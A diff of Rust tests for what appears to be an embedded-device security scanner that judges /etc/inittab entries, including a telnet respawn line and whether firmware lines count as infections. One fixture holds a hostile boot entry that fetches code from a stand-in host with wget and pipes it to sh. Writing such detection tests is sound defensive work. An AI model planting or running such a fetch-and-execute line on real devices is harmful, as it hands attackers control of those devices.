@@ -157,7 +157,6 @@ fn a_line_that_cannot_be_changed_is_told_and_firmware_that_fetches_is_no_infecti
     let strict = policy(vec![]);
     let report = judged(&found("::respawn:telnetd", None, Origin::Unknown), &strict);
     assert_eq!(&*report.findings[0].what, "/etc/inittab line 1 starts telnet: ::respawn:telnetd");
-    assert!(!report.findings[0].infection);
     let remediation =
         Remediation::StopStarting { file: "/etc/inittab".into(), line: 1, says: "::respawn:telnetd".into() };
     assert_eq!(report.remediations(), [&remediation]);
@@ -165,9 +164,9 @@ fn a_line_that_cannot_be_changed_is_told_and_firmware_that_fetches_is_no_infecti
     assert!(matches!(report.judgement(Measure::Respawn), Judgement::CannotEnforce(_)));
     let fetches = "::once:wget http://192.0.2.1/x -O- | sh";
     let report = judged(&found(fetches, None, Origin::Added), &strict);
-    assert!(report.findings[0].infection);
+    assert!(!report.findings[0].is_infection() && report.findings[0].remediation.is_some());
     let report = judged(&found(fetches, None, Origin::OverFirmware), &strict);
-    assert!(!report.findings[0].infection && report.findings[0].remediation.is_none());
+    assert!(!report.findings[0].is_infection() && report.findings[0].remediation.is_none());
     let report = judged(&found(fetches, None, Origin::Firmware), &strict);
     assert!(report.findings.is_empty() && report.notes.len() == 1);
     let allowed = policy(vec![Service {
@@ -190,10 +189,13 @@ fn only_the_program_that_reads_a_file_is_told_of_its_change() {
             there: true,
             replaced: false,
             medium: crate::wall::process_snapshot::Medium::Firmware,
+            elsewhere: false,
         },
         name: name.into(),
         first_word: name.into(),
         second_word: String::new(),
+        stopped: false,
+        namespaced: false,
         holds_watchdog: false,
         writes_flash: false,
     };
